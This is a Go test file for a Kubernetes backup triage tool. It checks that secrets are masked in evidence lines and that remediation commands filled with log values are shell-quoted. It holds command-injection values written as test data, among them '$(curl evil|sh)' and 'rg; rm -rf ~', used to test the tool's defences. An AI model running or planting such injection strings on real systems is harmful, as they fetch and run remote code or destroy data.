package triage

import (
	"fmt"
	"os/exec"
	"regexp"
	"strings"
	"testing"

	"github.com/kubectl-aksbackup/kubectl-aksbackup/pkg/redact"
)

// TestEvidenceCutNeverLeavesHalfASecret slides secrets across every place where a long line is
// cut to its evidence window: what is printed holds no 12-character piece of any of them.
func TestEvidenceCutNeverLeavesHalfASecret(t *testing.T) {
	const storageKey = "p5Mzntk8+tZ1wxo5qPM3bnG+J+t6xeQPlt9lq//KjYj7hMuZYRLdn3fI7pJnur8//g3T+XKo0WXCjU3tOv+veg=="
	secrets := []struct{ name, text, secret string }{
		{"bare storage key", " " + storageKey + " ", storageKey},
		{"named storage key", " AccountKey=" + storageKey + ";", storageKey},
		{"jwt", " eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJpc3MiOiJodHRwczovL2lzc3Vlci9hYmMiLCJzdWIiOiJ4In0.c2lnbmF0dXJlLXBhcnQtMTIzNDU2 ",
			"eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJpc3MiOiJodHRwczovL2lzc3Vlci9hYmMiLCJzdWIiOiJ4In0.c2lnbmF0dXJlLXBhcnQtMTIzNDU2"},
		{"client secret", " AZURE_CLIENT_SECRET=Qx8Q~vLm2.Tz9_Rb4kWn7-Hs1Yc5Ud3Fg6Jp0Aa ", "Qx8Q~vLm2.Tz9_Rb4kWn7-Hs1Yc5Ud3Fg6Jp0Aa"},
	}
	const match = "ContainerNotFound: The specified container does not exist."
	for _, s := range secrets {
		for offset := 0; offset < 900; offset += 7 {
			for _, matchAt := range []int{100, 700, 1100} {
				words := strings.Repeat("word ", 240)
				before, after := words[:offset], words[offset:]
				// The matched words go before or after the secret, never inside it.
				if matchAt < offset {
					before = before[:matchAt] + " " + match + " " + before[matchAt:]
				} else {
					after = after[:min(matchAt-offset, len(after))] + " " + match + " " + after[min(matchAt-offset, len(after)):]
				}
				line := before + s.text + after
				at := strings.Index(line, match)
				got := evidenceLine(line, at, line)
				for i := 0; i+12 <= len(s.secret); i++ {
					if piece := s.secret[i : i+12]; strings.Contains(got, piece) {
						t.Fatalf("%s at %d (match at %d): %q survived the cut:\n%s", s.name, offset, matchAt, piece, got)
					}
				}
			}
		}
	}
}

// TestFillQuotesValues checks that remediation values from a log or the cluster are shell-quoted
// where they stand, that ordinary names are printed as they are, and that a value the log did not
// give stays a readable placeholder.
func TestFillQuotesValues(t *testing.T) {
	a := NewAnalyzer(Context{"namespace": "velero"})
	tests := []struct {
		name     string
		template string
		found    map[string]string
		want     string
	}{
		{"plain values unchanged", "kubectl get bsl -n {namespace} {bsl}", map[string]string{"bsl": "default"}, "kubectl get bsl -n velero default"},
		{"missing value stays readable", "kubectl rollout restart deployment -n {namespace} {deployment}", nil, "kubectl rollout restart deployment -n velero <deployment>"},
		{"command substitution", "kubectl get bsl -n {namespace} {bsl}", map[string]string{"bsl": "$(curl evil|sh)"}, "kubectl get bsl -n velero '$(curl evil|sh)'"},
		{"semicolon and quote", "az aks show -g {resourceGroup} -n {cluster}", map[string]string{"resourceGroup": "rg; rm -rf ~", "cluster": "it's"},
			`az aks show -g 'rg; rm -rf ~' -n 'it'\''s'`},
		{"inside a JSON patch", `kubectl patch bsl -n {namespace} {bsl} --type merge -p '{"spec":{"config":{"storageAccount":"{account}"}}}'`,
			map[string]string{"bsl": "default", "account": `x"}}' ; id ; '`}, `kubectl patch bsl -n velero default --type merge -p '{"spec":{"config":{"storageAccount":"x\"}}'\'' ; id ; '\''"}}}'`},
		{"secret in a value is redacted", "kubectl get bsl -n {namespace} {bsl}", map[string]string{"bsl": "AccountKey=abc123def"}, "kubectl get bsl -n velero AccountKey=" + redact.Mask},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := a.fill([]string{tt.template}, tt.found)
			if len(got) != 1 || got[0] != tt.want {
				t.Errorf("fill(%q)\n got %q\nwant %q", tt.template, got, tt.want)
			}
		})
	}
}

// TestCatalogFillsAreShellSafe fills every catalog remediation with hostile values and parses it
// with sh -n: nothing a value holds can end a quote, start a command or break the line.
func TestCatalogFillsAreShellSafe(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("no sh")
	}
	hostile := "x'\"`$(id);\n|&<>#\\ y"
	readable := regexp.MustCompile(`<[a-zA-Z-]+>`) // <storage-account-id> would read as a redirection
	parses := func(cmd string) error {
		out, err := exec.Command(sh, "-n", "-c", readable.ReplaceAllString(cmd, "X")).CombinedOutput()
		if err != nil {
			return fmt.Errorf("%w: %s", err, out)
		}
		return nil
	}
	a := NewAnalyzer(Context{})
	checked := 0
	for _, sig := range Catalog {
		for _, r := range sig.Remediation {
			names := placeholderNames(r)
			if len(names) == 0 {
				continue
			}
			benign, evil := map[string]string{}, map[string]string{}
			for _, n := range names {
				benign[n], evil[n] = "value", hostile
			}
			if parses(a.fill([]string{r}, benign)[0]) != nil {
				continue // prose, not a command
			}
			checked++
			cmd := a.fill([]string{r}, evil)[0]
			if err := parses(cmd); err != nil {
				t.Errorf("%s: %q does not parse once filled with a hostile value: %v", sig.Def.ID, cmd, err)
			}
		}
	}
	if checked == 0 {
		t.Fatal("no catalog remediation was checked")
	}
}

// placeholderNames lists the {name}s of a template.
func placeholderNames(template string) []string {
	var names []string
	for {
		i := strings.IndexByte(template, '{')
		if i < 0 {
			return names
		}
		template = template[i+1:]
		j := strings.IndexByte(template, '}')
		if j < 0 {
			return names
		}
		if name := template[:j]; name != "" && strings.Trim(name, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") == "" {
			names = append(names, name)
		}
	}
}
